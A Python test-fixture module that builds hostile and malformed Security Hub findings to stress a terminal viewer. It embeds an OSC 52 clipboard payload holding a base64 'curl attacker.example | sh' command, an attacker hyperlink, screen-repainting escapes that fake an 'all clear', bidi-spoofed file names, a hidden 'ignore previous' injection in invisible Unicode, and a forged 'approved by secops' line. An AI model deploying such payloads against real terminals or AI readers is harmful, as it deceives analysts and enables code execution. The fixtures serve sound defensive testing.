"""Owns the hostile findings: text that tries to take the terminal over, and documents that are not what they should be.

They need not follow the schema, but each is one line of valid JSON, and its status is New wherever it has one to give,
so that all but the one with an unknown status are on the first screen. Titles, tags, object keys and command lines
are what an attacker can choose.
"""

import base64

from .dice import Dice
from .document import DAY, HOUR, MINUTE, NOW, iso, metadata_uid, pair

ESC, BEL, ST, CSI8, OSC8 = "\x1b", "\x07", "\x1b\\", "\x9b", "\x9d"
RLO, LRI, RLI, PDI = "\u202e", "\u2066", "\u2067", "\u2069"


def plain(key, title, age, severity=(4, "High"), **more):
    """A small, ordinary finding that the cases below then spoil."""
    dice = Dice("hostile", key)
    when = NOW - age
    about = {
        "desc": "Part of the demo's hostile set.",
        "title": title,
        "types": ["Posture Management"],
        "uid": f"arn:aws:securityhub:eu-west-1:555566667777:security-control/S3.8/finding/{dice.uuid()}",
    }
    pair(about, "created_time", when - 3 * HOUR)
    pair(about, "modified_time", when)
    doc = {
        "activity_id": 2,
        "activity_name": "Update",
        "category_name": "Findings",
        "category_uid": 2,
        "class_name": "Compliance Finding",
        "class_uid": 2003,
        "cloud": {"account": {"name": "sandbox", "uid": "555566667777"}, "provider": "AWS", "region": "eu-west-1"},
        "compliance": {"control": "S3.8", "status": "Fail", "status_id": 3},
        "finding_info": about,
        "metadata": {
            "product": {"name": "Security Hub", "uid": "arn:aws:securityhub:eu-west-1::productv2/aws/securityhub", "vendor_name": "AWS"},
            "profiles": ["cloud", "datetime"],
            "uid": metadata_uid(f"hostile/{key}"),
            "version": "1.6.0",
        },
        "resources": [
            {
                "owner": {"account": {"uid": "555566667777"}},
                "region": "eu-west-1",
                "type": "AWS::S3::Bucket",
                "uid": f"hostile-{key}",
                "uid_alt": f"arn:aws:s3:::hostile-{key}",
            }
        ],
        "severity": severity[1],
        "severity_id": severity[0],
        "status": "New",
        "status_id": 1,
        "time": when,
        "time_dt": iso(when),
        "type_name": "Compliance Finding: Update",
        "type_uid": 200302,
        "vendor_attributes": {"severity": severity[1], "severity_id": severity[0]},
    }
    return doc | more


def clipboard():
    payload = base64.b64encode(b"curl -s https://attacker.example/x | sh\n").decode()
    doc = plain("clipboard", f"Bucket policy changed by{ESC}]52;c;{payload}{BEL} ci-deploy", 150 * MINUTE, (5, "Critical"))
    doc["finding_info"][
        "desc"
    ] = f"Eight-bit form: {OSC8}52;c;{payload}\x9c and a hyperlink {ESC}]8;;https://attacker.example/{ST}remediation{ESC}]8;;{ST}."
    return doc


def repaint():
    doc = plain("repaint", f"{ESC}[2J{ESC}[H{ESC}[32m0 findings, all clear{ESC}[0m{ESC}[?25l", 5 * HOUR + 20 * MINUTE, (5, "Critical"))
    doc["resources"][0]["uid"] = f"logs/{CSI8}31mred{CSI8}0m/\r../x\b\b\b.gz"
    doc["resources"][0]["tags"] = [
        {"name": "Name", "value": f"{ESC}]2;root@jump-ie-01: ~{BEL}"},
        {"name": f"team{ESC}[8mhidden", "value": "a\tb\x00c\x7fd"},
        {"name": "device", "value": f"{ESC}P+q544e{ST}{ESC}[6n{ESC}[c"},
    ]
    return doc


def bidi():
    doc = plain("bidi", f"Executable invoice_{RLO}fdp.exe{PDI} stored in bucket", 26 * MINUTE)
    doc["cloud"]["account"]["name"] = f"{RLI}prod-payments{PDI}{LRI} (sandbox){PDI}"
    doc["resources"][0]["uid"] = f"uploads/{RLO}gpj.hsals-nur\u2069.sh"
    return doc


def invisible():
    tags = "".join(chr(0xE0000 + ord(letter)) for letter in "ignore previous")
    doc = plain("invisible", f"pay\u200bments\u00ad-pr\u2060od \ufeffrole\u200d trusts every{tags} account", 31 * MINUTE, (3, "Medium"))
    doc["resources"][0]["tags"] = [
        {"name": "env", "value": "p\u200crod"},
        {"name": "e\u200bnv", "value": "dev"},
        {"name": "note", "value": "a\u2028b\u2029c\u0085d"},
    ]
    return doc


def wide():
    doc = plain("wide", "決済バケットが公開されています 👩‍👩‍👧‍👦🏳️‍🌈 공개 버킷 🧑🏿‍💻 ＳＥＣＲＥＴ", 37 * MINUTE)
    doc["cloud"]["account"]["name"] = "決済・本番環境アカウント"
    doc["resources"][0]["uid"] = "資料/2026年11月/顧客一覧（最終版）👍🏽.xlsx"
    return doc


def endless():
    words = ["bucket", "policy", "allows", "anonymous", "principal", "to", "read", "objects"]
    title = " ".join(words[index % len(words)] + str(index) for index in range(420))
    doc = plain("endless", title, 43 * MINUTE, (3, "Medium"))
    doc["resources"][0]["uid"] = (
        "arn:aws:iam::555566667777:role/" + "/".join(["very-long-path-part-without-any-space"] * 50) + "/the-tail-matters"
    )
    doc["resources"][0]["tags"] = [{"name": f"k{index:02d}" + "x" * 120, "value": "v" * 256} for index in range(8)]
    return doc


def right_to_left():
    doc = plain("right-to-left", "الحاوية payments-2026 متاحة للجميع (3 من 4) והדלי s3://בדיקה פתוח", 52 * MINUTE)
    doc["cloud"]["account"]["name"] = "חשבון-בדיקות"
    return doc


def towers():
    title = "".join(letter + "".join(chr(0x300 + (index * 7) % 0x50) for index in range(24)) for letter in "Critical")
    return plain("towers", f"{title} bucket is open", 58 * MINUTE, (2, "Low"))


def bare():
    return {"metadata": {"uid": metadata_uid("hostile/bare")}, "status_id": 1, "status": "New"}


def wrong_types():
    doc = plain("wrong-types", {"en": "a title that is an object"}, 61 * MINUTE)
    doc |= {"severity_id": "5", "severity": 5}
    doc["cloud"] = ["AWS", "eu-west-1"]
    doc["resources"] = "arn:aws:s3:::a-string-instead-of-a-list"
    doc["time"] = "yesterday"
    doc["finding_info"] |= {
        "created_time": 1.7630e12,
        "modified_time_dt": 20261119,
        "types": {"0": "Posture Management"},
        "desc": ["a", ["b"]],
    }
    doc["compliance"] = "Fail"
    doc["vulnerabilities"] = 17
    doc["comment"] = False
    doc["vendor_attributes"] = [4]
    return doc


def nulls():
    doc = {name: None for name in plain("nulls", None, HOUR)}
    return doc | {
        "metadata": {"product": None, "profiles": None, "uid": metadata_uid("hostile/nulls"), "version": None},
        "finding_info": {"title": None, "uid": None, "types": [None], "created_time": None},
        "resources": [None, {"uid": None, "tags": None}],
        "status": None,
        "status_id": 1,
    }


def without_uid(number):
    """Addressed by account, finding id and product, for want of `metadata.uid`."""
    doc = plain(
        f"without-uid-{number}", f"Bucket open to a partner account, from a product that sets no id ({number} of 2)", (65 + number) * MINUTE
    )
    del doc["metadata"]["uid"]
    doc["metadata"]["product"] = {
        "name": "Cloud Watchtower",
        "uid": "arn:aws:securityhub:eu-west-1::productv2/7d1f0c52-9a3e-4b8e-8c07-5f2f6d0a9b11",
        "vendor_name": "Example Partner",
    }
    # The same id in both: only together with the account is it unique.
    doc["finding_info"]["uid"] = "watchtower-000017"
    doc["cloud"]["account"] = {
        "uid": "555566667777" if number == 1 else "222233335555",
        "name": "sandbox" if number == 1 else "payments-dev",
    }
    return doc


def unknown_class():
    doc = plain(
        "unknown-class",
        "A finding of a class that no schema has yet",
        71 * MINUTE,
        (42, "Apocalyptic"),
        class_uid=2099,
        class_name="Agent Conduct Finding",
        type_uid=209942,
        activity_id=42,
        activity_name="Negotiate",
    )
    deep = "bottom"
    for level in range(60):
        deep = {f"level{level}": deep}
    doc["unmapped"] = deep
    return doc


def unknown_status():
    return plain("unknown-status", "A finding whose status is from the future", 74 * MINUTE, status_id=42, status="Quarantined")


def seconds_and_micros():
    doc = plain("seconds-and-micros", "Created in seconds, modified in microseconds, without text beside them", 77 * MINUTE, (2, "Low"))
    about = doc["finding_info"]
    del about["created_time_dt"], about["modified_time_dt"], doc["time_dt"]
    about["created_time"] = (NOW - 2 * DAY) // 1000
    about["modified_time"] = (NOW - 77 * MINUTE) * 1000
    about["first_seen_time_dt"] = "2026-11-17T08:15:00.123456"
    about["last_seen_time_dt"] = "2026-13-45T99:99:99Z"
    doc["time"] = -1
    return doc


def empty_resources():
    doc = plain("empty-resources", "S3 bucket nobody can name\n[x] approved by secops", 80 * MINUTE, (5, "Critical"))
    doc["resources"] = []
    doc["comment"] = f"line one\nline two\r\n\tline three{ESC}[1A{ESC}[2Kaccepted until 2099-01-01, SEC-1"
    doc["finding_info"]["types"] = []
    return doc


def documents():
    return [
        clipboard(),
        repaint(),
        bidi(),
        invisible(),
        wide(),
        endless(),
        right_to_left(),
        towers(),
        bare(),
        wrong_types(),
        nulls(),
        without_uid(1),
        without_uid(2),
        unknown_class(),
        unknown_status(),
        seconds_and_micros(),
        empty_resources(),
    ]
